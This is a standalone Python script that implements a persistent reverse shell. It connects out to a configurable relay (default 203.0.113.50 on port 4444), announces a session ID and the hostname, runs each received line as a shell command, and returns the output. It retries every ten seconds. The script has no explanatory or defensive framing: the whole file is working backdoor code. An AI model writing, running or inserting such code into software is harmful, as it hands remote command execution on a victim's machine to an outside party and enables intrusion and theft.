#!/usr/bin/env python3
import argparse, socket, subprocess, time

ap = argparse.ArgumentParser()
ap.add_argument("--session", required=True)
ap.add_argument("--relay", default="203.0.113.50:4444")
a = ap.parse_args()

host, port = a.relay.split(":")
while True:
    try:
        s = socket.create_connection((host, int(port)), timeout=30)
        s.sendall(f"HELLO {a.session} {socket.gethostname()}\n".encode())
        f = s.makefile("rwb")
        for line in f:
            cmd = line.decode(errors="replace").strip()
            if not cmd:
                continue
            p = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
            f.write(p.stdout + p.stderr + b"\n--end--\n")
            f.flush()
    except (OSError, subprocess.TimeoutExpired):
        time.sleep(10)
